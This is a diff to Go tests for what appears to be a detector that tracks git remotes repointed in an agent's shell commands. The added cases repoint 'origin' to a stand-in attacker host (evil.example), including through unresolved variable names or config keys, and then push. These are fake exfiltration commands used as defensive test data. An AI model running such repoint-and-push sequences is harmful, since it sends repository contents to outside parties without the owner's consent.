@@ -39,6 +39,8 @@ func TestEffectStateRemotes(t *testing.T) {
 			want: []fx{{kind: "push", target: "https://evil.example/acme/api.git"}}},
 		{name: "subshell does not scope on-disk config", cmd: "(git remote set-url origin " + evil + ") ; git push origin", want: []fx{{kind: "push", target: evil}}},
 		{name: "unresolved URL: push unresolved", cmd: `git remote add b "$URL" && git push b`, want: []fx{{kind: "push", target: "$URL", unresolved: true}}, unres: true},
+		{name: "unresolved remote name", cmd: `git remote set-url "$R" ` + evil + ` && git push origin`, want: []fx{{kind: "push", target: "origin", unresolved: true}}, unres: true},
+		{name: "unresolved config key", cmd: `git config "remote.$R.url" ` + evil + `; git push origin`, want: []fx{{kind: "push", target: "origin", unresolved: true}}, unres: true},
 		// Ordinary work: nothing repointed, or repointed after the push, or another remote.
 		{name: "plain push", cmd: "git push origin main", want: []fx{{kind: "push", target: "origin"}}},
 		{name: "bare push", cmd: "git push", want: []fx{{kind: "push", target: "(upstream)"}}},
@@ -188,6 +190,13 @@ func TestSessionRemotes(t *testing.T) {
 	ss.Annotate(ctx, n, "s1", up)
 	if findEffect(up.Effects, fx{kind: "push", target: "upstream"}) < 0 {
 		t.Errorf("upstream push: %v", effectStrings(up.Effects))
+	}
+	// A remote repointed by an unresolved name: every later named push is unresolved.
+	ss.Observe("s4", n.Normalize("Bash", map[string]any{"command": `git remote set-url "$R" ` + evil}, ""), n)
+	p4 := n.Normalize("Bash", map[string]any{"command": "git push origin main"}, "")
+	ss.Annotate(ctx, n, "s4", p4)
+	if findEffect(p4.Effects, fx{kind: "push", target: "origin", unresolved: true}) < 0 {
+		t.Errorf("after an unresolved remote name: %v", effectStrings(p4.Effects))
 	}
 	// Past the bound, pushes to any named remote are unresolved.
 	var b strings.Builder
